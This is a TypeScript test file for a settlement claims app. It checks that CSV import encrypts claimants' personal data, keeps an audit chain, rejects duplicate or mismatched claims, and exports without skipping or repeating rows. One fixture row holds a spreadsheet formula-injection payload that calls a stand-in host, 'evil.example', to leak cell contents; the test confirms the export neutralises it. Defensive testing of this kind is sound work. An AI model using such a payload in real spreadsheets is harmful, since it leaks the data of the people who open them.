import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, asc, count, eq, sql } from 'drizzle-orm';
import { rowsOf, type Handle } from '@/db/client';
import { auditLog, claimEvents, claims } from '@/db/schema';
import { verifyAuditChain } from '@/lib/audit/service';
import { CsvRejected } from '@/lib/csv/read';
import { ensureDemo, demoClassList } from '@/lib/demo/service';
import { decryptJson } from '@/lib/privacy/crypto';
import { settlementKey } from '@/lib/privacy/keys';
import type { Settlement } from '@/lib/settlements/service';
import { openTestDb } from '@/lib/testing/db';
import { EXPORT_COLUMNS, exportClaims } from './export';
import { importClaims } from './import';
import { CLAIM_PII, type ClaimPii } from './seal';

const CANARY = 'Quixotellia';
const CANARY_EMAIL = 'canary.7f3e9d@example.org';

let h: Handle;
let demo: Settlement;
let tmp: string;
const member = demoClassList(2)[0];

const HEADER = 'claim_ref,notice_id,confirmation_code,first_name,last_name,email,attestations,payment_method,payment_handle,submitted_at,channel,ip,user_agent,device_id,form_seconds,batch,street,city,state,zip';
const file = (...rows: string[]) => Buffer.from([HEADER, ...rows].join('\n') + '\n');

beforeAll(async () => {
  h = await openTestDb();
  // Without the demo's sample claims, so the export holds exactly the imported ones.
  demo = (await ensureDemo(h.db, { classSize: 20, sampleClaims: false })).settlement;
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'fairshare-export-'));
});
afterAll(async () => {
  await h?.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('claims import → export', () => {
  it('round-trips claims, seals personal data and neutralises formula cells in the export', async () => {
    const result = await importClaims(
      h.db,
      demo,
      file(
        `MAIL-001,${member.noticeId},${member.confirmationCode.toLowerCase()},${CANARY},Canarysdottir,${CANARY_EMAIL},illinois_resident,paypal,${CANARY_EMAIL},2022-01-10T09:30:00Z,mail,203.0.113.9,Mozilla/5.0,dev-1,95,B1,,,,`,
        `"=HYPERLINK(""http://evil.example/?leak=""&A1,""Refund"")",,,Liam,Garcia,liam@example.com,,check,,,import,,,,,B1,1 Main St,Boston,MA,02134`,
        `MAIL-003,,,Maya,Nguyen,maya@example.com,,venmo,312-555-0100,2022-01-11,web,,,,,B2,,,,`,
      ),
      'tester',
      { fileName: 'batch.csv' },
    );
    expect(result).toMatchObject({ file: 'batch.csv', imported: 3, byMethod: { paypal: 1, check: 1, venmo: 1 }, byTier: { illinois: 1, nationwide: 2 } });

    // Personal data is ciphertext at rest: the canary appears in no column of the claims table…
    const raw = rowsOf<Record<string, unknown>>(await h.db.execute(sql`select * from claims where settlement_id = ${demo.id}`));
    expect(JSON.stringify(raw)).not.toContain(CANARY);
    expect(JSON.stringify(raw)).not.toContain(CANARY_EMAIL);
    // …and comes back with the settlement's key.
    const [first] = await h.db.select().from(claims).where(and(eq(claims.settlementId, demo.id), eq(claims.claimRef, 'MAIL-001')));
    const pii = decryptJson<ClaimPii>(await settlementKey(h.db, demo.id), first.pii, CLAIM_PII);
    expect(pii).toMatchObject({ firstName: CANARY, email: CANARY_EMAIL });
    expect(first).toMatchObject({ noticeId: member.noticeId, channel: 'mail', tier: 'illinois', formSeconds: 95, status: 'received', attributes: { batch: 'B1' } });
    expect(first.ipHash).toBeTruthy();
    expect(first.deviceHash).toBeTruthy();

    // One 'received' event per claim, dated when the claim was submitted.
    const events = await h.db.select().from(claimEvents).where(eq(claimEvents.claimPk, first.id));
    expect(events.map((e) => [e.status, e.at.toISOString()])).toEqual([['received', '2022-01-10T09:30:00.000Z']]);

    const out = path.join(tmp, 'claims.csv');
    const exported = await exportClaims(h.db, demo, out, 'tester');
    expect(exported.rows).toBe(3);
    const text = fs.readFileSync(out, 'utf8');
    expect(text).not.toContain(CANARY);
    expect(text).not.toContain(CANARY_EMAIL);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([...EXPORT_COLUMNS]);
    expect(rows.map((r) => r.claim_ref)).toEqual(['MAIL-001', `'=HYPERLINK("http://evil.example/?leak="&A1,"Refund")`, 'MAIL-003']);
    expect(rows.map((r) => [r.status, r.tier, r.payment_method, r.verification_status])).toEqual([
      ['received', 'illinois', 'paypal', 'pending'],
      ['received', 'nationwide', 'check', 'pending'],
      ['received', 'nationwide', 'venmo', 'pending'],
    ]);
    expect(rows[0].submitted_at).toBe('2022-01-10T09:30:00.000Z');
    expect(rows[0].claim_id).toBe(first.claimId);
    // No cell a spreadsheet would run.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);

    // The audit trail has both, with counts and no personal data, and the chain holds.
    const audits = await h.db.select().from(auditLog).where(eq(auditLog.settlementId, demo.id)).orderBy(asc(auditLog.id));
    const mine = audits.filter((a) => a.action.startsWith('claims.'));
    // The export is on the record before its first byte, and its row count once it completed.
    expect(mine.map((a) => [a.action, a.actor])).toEqual([['claims.import', 'tester'], ['claims.export', 'tester'], ['claims.export_completed', 'tester']]);
    expect(mine[0].details).toMatchObject({ claims: 3, byMethod: { paypal: 1, check: 1, venmo: 1 } });
    expect(mine[2].details).toMatchObject({ rows: 3, started: mine[1].id });
    expect(JSON.stringify(audits)).not.toContain(CANARY);
    expect(await verifyAuditChain(h.db)).toMatchObject({ ok: true });
  });

  it('rejects a claim_ref already imported, and a Notice ID with the wrong code, inserting nothing', async () => {
    const [before] = await h.db.select({ n: count() }).from(claims).where(eq(claims.settlementId, demo.id));
    const err = await importClaims(
      h.db,
      demo,
      file(
        `MAIL-004,,,Owen,Brown,owen@example.com,,paypal,owen@example.com,,,,,,,,,,,`,
        `MAIL-001,,,Zoe,Kim,zoe@example.com,,paypal,zoe@example.com,,,,,,,,,,,`,
        `MAIL-005,${member.noticeId},ZZZZZZ,Kai,Ali,kai@example.com,,check,,,,,,,,,1 Main St,Boston,MA,02134`,
        `MAIL-006,N-0000-0000-0,ABC123,Kai,Ali,kai@example.com,,paypal,kai@example.com,,,,,,,,,,,`,
      ),
      'tester',
      { fileName: 'again.csv' },
    ).catch((e) => e);
    expect(err).toBeInstanceOf(CsvRejected);
    expect(err.errors).toEqual(
      expect.arrayContaining([
        'again.csv:3:1 (claim_ref): claim_ref "MAIL-001" is already used by a claim in this settlement',
        'again.csv:4:3 (confirmation_code): does not match the Notice ID',
      ]),
    );
    expect(err.errors.some((e: string) => e.startsWith('again.csv:5:2 (notice_id): '))).toBe(true);
    const [after] = await h.db.select({ n: count() }).from(claims).where(eq(claims.settlementId, demo.id));
    expect(after.n).toBe(before.n);
  });

  it('imports from a one-shot stream and exports page by page without skipping or repeating a claim', async () => {
    const lines = Array.from({ length: 7 }, (_, i) => `STREAM-${i},,,Ava,Patel,ava${i}@example.com,,paypal,ava${i}@example.com,,,,,,,,,,,`);
    const result = await importClaims(h.db, demo, Readable.from([file(...lines)]), 'tester');
    expect(result).toMatchObject({ file: 'stdin', imported: 7 });

    const out = path.join(tmp, 'paged.csv');
    const pages: number[] = [];
    const exported = await exportClaims(h.db, demo, out, 'tester', { pageSize: 3, onProgress: (n) => pages.push(n) });
    const rows = parse(fs.readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    const [total] = await h.db.select({ n: count() }).from(claims).where(eq(claims.settlementId, demo.id));
    expect(exported.rows).toBe(total.n);
    expect(rows).toHaveLength(total.n);
    expect(new Set(rows.map((r) => r.claim_id)).size).toBe(total.n);
    expect(pages.length).toBeGreaterThan(2);
    // No temporary file is left next to the export.
    expect(fs.readdirSync(tmp).filter((f) => f.includes('partial'))).toEqual([]);
  });
});
